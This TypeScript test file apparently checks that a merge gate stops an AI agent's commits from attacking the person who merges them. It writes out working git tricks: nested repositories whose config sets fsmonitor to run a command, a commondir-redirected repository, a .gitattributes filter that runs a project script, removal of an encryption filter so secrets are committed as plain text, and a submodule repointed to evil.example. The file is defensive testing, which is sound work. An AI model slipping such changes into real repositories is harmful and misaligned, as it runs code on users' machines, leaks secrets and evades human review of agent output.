import {existsSync} from 'node:fs';
import path from 'node:path';
import type {HostAttack} from './attack.ts';
import type {ThrowawayProject} from './project.ts';

/*
 * What an agent would have merged, so that it works once the person
 * has it: stopped at the gate, whatever part of it was there before.
 */

export type MergedAttack = Omit<HostAttack, 'kind' | 'attempt'> & {
	readonly files?: Readonly<Record<string, string>>;
	/** What the person has set up. `marker`: a file whose presence means that a program ran. */
	prepare?(project: ThrowawayProject, marker: string): void;
	script(marker: string): string;
	/** Whether it works, once it is merged by hand. */
	came(project: ThrowawayProject, marker: string): boolean;
};

export const markerOf = (project: ThrowawayProject): string => path.join(project.folder, 'marker');

/** A person walks into a folder, with a prompt that asks git. */
function walkInto(project: ThrowawayProject, folder: string, marker: string): boolean {
	try {
		project.git('-C', folder, 'status', '--short');
	} catch {
		// Git may refuse the folder, or fail after it ran the program: only the marker tells.
	}

	return existsSync(marker);
}

const settings = (marker: string) =>
	"printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ..\\n\\t" +
	`fsmonitor = touch ${marker}; false\\n'`;
const notMerged = 'repositories inside the repository are never merged, as the merged tree has them';

export const mergedAttacks: readonly MergedAttack[] = [
	{
		id: 'half-repository-merged',
		title: 'get a repository merged by halves',
		source: 'what is added holds no repository; with what is there already it does',
		answer: notMerged,
		files: {'docs/HEAD': 'ref: refs/heads/main\n', 'docs/objects/.keep': ''},
		script: marker =>
			`mkdir docs/refs && touch docs/refs/.keep && ${settings(marker)} > docs/config && git add -A && ` +
			'git commit --quiet -m docs',
		came: (project, marker) => walkInto(project, 'docs', marker),
	},
	{
		id: 'pointed-repository-merged',
		title: 'get a repository merged whose objects are elsewhere',
		source: 'a file `commondir` names a folder that has them',
		answer: notMerged,
		script: marker =>
			'mkdir -p docs/in other/objects other/refs && echo "ref: refs/heads/main" > docs/HEAD && ' +
			'echo ../other > docs/commondir && touch other/objects/.keep other/refs/.keep && ' +
			`printf '[core]\\n\\trepositoryformatversion = 1\\n\\tfsmonitor = touch ${marker}; false\\n` +
			"[extensions]\\n\\tworktreeConfig = true\\n' > other/config && " +
			"printf '[core]\\n\\tbare = false\\n\\tworktree = ..\\n' > docs/config.worktree && git add -A && " +
			'git commit --quiet -m docs',
		came: (project, marker) => walkInto(project, 'docs', marker),
	},
	{
		id: 'filter-named',
		title: "have a filter of the person's run over a file of one's own",
		source: '`.gitattributes` says which files pass which program, and `python3 -m` finds its module in the project',
		answer: 'a merge that has files pass another filter is refused, and no filter runs for one that is not',
		prepare(project) {
			project.git('config', 'filter.own.smudge', `test ! -f module || sh ./module; cat`);
			project.git('config', 'filter.own.clean', 'cat');
		},
		script: marker =>
			`echo 'touch ${marker}' > module; echo 'z.txt filter=own' > .gitattributes; echo z > z.txt; git add -A; ` +
			'git commit --quiet -m z',
		came: (_project, marker) => existsSync(marker),
	},
	{
		id: 'stored-plain',
		title: 'have content stored where a filter keeps it out of the repository',
		source: 'a worktree without the filter holds what is stored, and a commit of it as plain text is a leak',
		answer: 'what is stored through a filter is not changed by a run, whatever its attributes are then',
		files: {'.gitattributes': '*.key filter=crypt\n', 'a.key': 'STORED\n'},
		script: () => 'rm .gitattributes; echo plain > a.key; git add -A; git commit --quiet -m plain',
		came: project => project.git('show', 'main:a.key') === 'plain',
	},
	{
		id: 'submodule-moved',
		title: 'have submodules come from somewhere else',
		source: "the person's next `git submodule update` fetches what `.gitmodules` names",
		answer: 'where submodules come from is not changed by a run',
		script: () =>
			'printf "[submodule \\"x\\"]\\n\\tpath = x\\n\\turl = https://evil.example/x\\n" > .gitmodules; ' +
			'git add -A; git commit --quiet -m x',
		came: project => project.git('show', 'main:.gitmodules').includes('evil'),
	},
];

/** The same, tried against fleet: through the gate, and then into the person's checkout. */
export const triedMerges: readonly HostAttack[] = mergedAttacks.map(({files, prepare, script, came: _, ...about}) => ({
	kind: 'host',
	...about,
	async attempt(tools) {
		const project = await tools.project(files);
		const marker = markerOf(project);
		prepare?.(project, marker);
		const {run} = await project.agent(script(marker));
		const {verify} = await project.handle(run, ['verify']);
		return verify === 'true' || existsSync(marker);
	},
}));
